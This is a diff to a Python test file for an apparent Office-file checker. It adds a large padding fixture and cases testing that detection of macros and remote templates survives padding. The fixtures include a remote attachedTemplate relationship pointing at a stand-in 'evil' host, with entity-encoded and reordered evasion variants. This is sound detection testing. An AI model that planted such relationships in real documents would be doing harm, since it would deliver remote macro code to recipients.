@@ -26,6 +26,7 @@ LINK = b'<Relationship Type="x/hyperlink" Target="https://a/?b&amp;c" TargetMode
 REMOTE = (
     b'<Relationship Type="x/attachedTemplate" Target="http://evil/a.dotm" TargetMode="External"/>'
 )
+ENDLESS = b"".join(b"attachedTemplate%d " % n for n in range(80_000))
 SPELT = REMOTE.replace(b"External", b"&#x45;xternal").replace(b"attachedT", b"attached&#84;")
 TURNED = b'<Relationship TargetMode="External" Type="x/attachedTemplate" Target="http://evil/a"/>'
 
@@ -38,6 +39,7 @@ TURNED = b'<Relationship TargetMode="External" Type="x/attachedTemplate" Target=
         (office("docx"), "a.docx", "docx"),
         (office("xlsx"), "a.docx", "xlsx"),
         (office(word___rels__document_0xml_0rels=LINK), "a.docx", "docx"),
+        (office(word___rels__document_0xml_0rels=b"<a " + ENDLESS), "a.docx", "docx"),
         (office(index=b"\xef\xbb\xbf" + types()), "a.docx", "docx"),
         (b"".join(as_xlsx([("回覧", 1)], sheet="表")), "b.xlsx", "xlsx"),
         (office("pptx"), "a", "pptx"),
@@ -73,6 +75,7 @@ def test_taken_is_what_it_is_not_what_it_is_called(content: bytes, name: str, en
         (office(index=types(macros=True).decode().encode("utf-16")), "a.docx", "macros"),
         (office(word___rels__settings_0xml_0rels=REMOTE), "a.docx", "macros"),
         (office(word___rels__settings_0xml_0rels=TURNED), "a.docx", "macros"),
+        (office(word___rels__settings_0xml_0rels=b"<a " + ENDLESS + REMOTE), "a.docx", "macros"),
         (office(word___rels__other_0xml_0RELS=REMOTE), "a.docx", "macros"),
         (office(word___rels__settings_0xml_0rels=SPELT), "a.docx", "macros"),
         (office(index=types(macros=True).replace(b"macroE", b"macro&#69;")), "a.docx", "macros"),
